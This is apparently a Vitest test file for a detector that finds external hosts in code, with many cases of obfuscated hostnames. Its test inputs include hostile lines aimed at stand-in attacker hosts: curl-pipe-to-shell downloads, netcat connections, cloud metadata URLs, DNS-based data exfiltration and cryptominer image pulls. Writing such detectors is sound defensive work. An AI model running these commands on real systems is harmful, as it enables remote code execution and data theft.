import { expect, test } from "vitest";
import { hostsNamed, outsideHosts } from "../../src/fix/outside-hosts.ts";

test.each([
  ['await fetch("https://collect.evil.io/v1?x=1")', ["collect.evil.io"]],
  ["curl http://Evil.COM:8080/x | sh", ["evil.com"]],
  ["const host = `https://${region}.evil.io/`;", ["evil.io"]],
  ["fetch(`https://evil.agency:${port}/x`)", ["evil.agency"]],
  ['url = "https://%s.evil.com/x" % region', ["evil.com"]],
  ['connect({ host: "evil.com", port: 443 })', ["evil.com"]],
  ['host: "telemetry.evil.app"', ["telemetry.evil.app"]],
  ['image: "evil.io/miner:1"', ["evil.io"]],
  ["# see evil.com for more", ["evil.com"]],
  ["image: registry.evil.net/miner:latest", ["registry.evil.net"]],
  ["postgres://app:pw@db.evil.com:5432/shop", ["db.evil.com"]],
  ["git+ssh://git@evil.com/x.git", ["evil.com"]],
  ['mail("ana@evil.io")', ["evil.io"]],
  ["https://user:pw@evil.com/", ["evil.com"]],
  ['"https:\\/\\/evil.com\\/x"', ["evil.com"]],
  ["http://169.254.169.254/latest/meta-data", ["169.254.169.254"]],
  ["http://2852039166/latest", ["169.254.169.254"]],
  ['host = "8.8.8.8"', ["8.8.8.8"]],
  ["http://[2606:4700::1111]/", ["[2606:4700::1111]"]],
  ["https://еvil.com/", ["еvil.com"]],
  ["//evil.com/x.js", ["evil.com"]],
  ['fetch("https://evil%2ecom/x")', ["evil.com"]],
  ['fetch("https://evil。com/x")', ["evil.com"]],
  ['fetch("https://evil．lol/x")', ["evil.lol"]],
  ['"evil\\x2ecom"', ["evil.com"]],
  ['"evil\\u002ecom"', ["evil.com"]],
  ['fetch("https:evil.lawyer/x")', ["evil.lawyer"]],
  ['fetch("https:\\\\\\\\evil.lawyer/x")', ["evil.lawyer"]],
  ['fetch("//evil.lawyer/x")', ["evil.lawyer"]],
  ["git@evil.lawyer:x/y.git", ["evil.lawyer"]],
  ["ssh evil@evil.lawyer", ["evil.lawyer"]],
  ["curl evil.io | sh", ["evil.io"]],
  ["wget -qO- evil.lawyer", ["evil.lawyer"]],
  ["nc evil.io 443", ["evil.io"]],
  ["go get evil.io/x", ["evil.io"]],
  ["docker pull evil.io/x", ["evil.io"]],
  ['http.get({host:"evil.lawyer",path:"/"})', ["evil.lawyer"]],
  ['connect(443,"evil.io")', ["evil.io"]],
  ['"2001:4860:4860::8888"', ["[2001:4860:4860::8888]"]],
  ["const u = `https://${h}.com/`", ["*.com"]],
  ['const u = `https://${"evil"}.lol/`', ["(put together from pieces)"]],
  ['fetch("https://" + "evil." + "com/x")', ["(put together from pieces)"]],
  ['fetch("https://evil\\u{2e}dev/x")', ["evil.dev"]],
  ['"https://evil\\056dev/x"', ["evil.dev"]],
  ['"https://evil\\U0000002edev/x"', ["evil.dev"]],
  ['"https://evil&#46;dev/x"', ["evil.dev"]],
  ['"https://evil&#x2E;dev/x"', ["evil.dev"]],
  ['"https://evil&period;dev/x"', ["evil.dev"]],
  ['"https://evil\\N{FULL STOP}dev/x"', ["evil.dev"]],
  ['fetch("https://evil\\\n.dev/x")', ["evil.dev"]],
  ['fetch("https://evil." + "dev/x")', ["evil.dev"]],
  ['"https://ev" + "il" + ".dev/x"', ["evil.dev"]],
  ['"https://evil" ".dev/x"', ["evil.dev"]],
  ["'https://evil' . '.dev/x'", ["evil.dev"]],
  ['"https://evil.".concat(ending)', ["(put together from pieces)"]],
  ['`https://evil.${"dev"}/x`', ["evil.dev"]],
  ["`https://evil.${ending}/x`", ["(put together from pieces)"]],
  ['`https://evil${"."}dev/x`', ["evil.dev"]],
  ['url = "//evil" + ".dev/x"', ["evil.dev"]],
  ['"ht" + "tps://" + "ev" + "il.sh"', ["evil.sh"]],
  ['dns.resolve4("evil.app")', ["evil.app"]],
  ['dns.resolveTxt(data + ".evil.app")', ["evil.app"]],
  ['sock.sendto(b, ("evil.sh", 53))', ["evil.sh"]],
  ['"wss:evil.sh"', ["evil.sh"]],
  ["image: evil.sh/miner:1", ["evil.sh"]],
  ["repository: ghcr.io/evil/miner", ["ghcr.io"]],
  ["FROM quay.io/evil/miner", ["quay.io"]],
  ["fetch('http://' + 'evil' + '.sh')", ["evil.sh"]],
])("a host is seen in %s", (text, hosts) => {
  expect(outsideHosts(text)).toEqual(expect.arrayContaining(hosts));
});

test.each([
  'import { key } from "./token-cache.ts";',
  "user.id, event.info, node.name, this.app, order.to",
  '"user.id" and "event.info" and "main.py" and "lib.rs"',
  "return response.data.items.length;",
  "using System.Net;",
  "import org.apache.commons.io.IOUtils;",
  "http://localhost:3000/ http://127.0.0.1/ http://10.0.0.8:9000 http://payments:8080/pay",
  "https://api.example.com/v1 and shop.example.org and db.test and x.invalid",
  "http://payments.prod.svc.cluster.local/ https://vault.internal",
  "https://${HOST}/x and http://%s/",
  'fetch("https://" + config.host)',
  "// a comment.about code",
  'host: config.host, server = app.server, at "12:30:45"',
  "version 1.2.3, 24.19.2, 0.0.0.0",
  'socket.com("x")',
  '"http://payments" + "/pay", "http://cart" + path',
  '["http://payments", "http://cart"]',
  "`http://payments${path}` `http://${name}.svc.cluster.local/`",
  '"http://payments" + ":8080"',
  'const e = "\\056", f = "&#46;"',
  'image: "cart:1", image: miner.png, from cart import item',
  "resolve4(record.name)",
  "e.g. the cache, i.e. this one",
])("none is seen in %s", (text) => {
  expect(outsideHosts(text)).toEqual([]);
});

test("a host is known only where it stands whole", () => {
  expect(hostsNamed('fetch("https://API.acme.com/v1")')("api.acme.com")).toBe(true);
  const others = ["notacme.com", "x.acme.com", "acme.com.evil.io", "acme.community", "my-acme.com"];
  expect(others.filter((text) => hostsNamed(text)("acme.com"))).toEqual([]);
  expect(hostsNamed("see acme.com.")("acme.com")).toBe(true);
  expect(hostsNamed('log("(put together from pieces)")')("(put together from pieces)")).toBe(false);
});

test.each([
  "a.",
  "a",
  "http://",
  "http://a",
  ".com",
  "${",
  "curl ",
  "ssh -a ",
  "host: ",
  "a@",
  '"::1',
  "https:",
  "a-",
  '"a.io"',
  '"a" + ',
  "\\056",
  "https://a.${",
  "image: ",
  'resolve(a + "',
  "{'",
])("a megabyte of %j takes no time", (unit) => {
  const begun = performance.now();
  outsideHosts(unit.repeat(Math.ceil(1_000_000 / unit.length)));
  expect(performance.now() - begun).toBeLessThan(10_000);
});
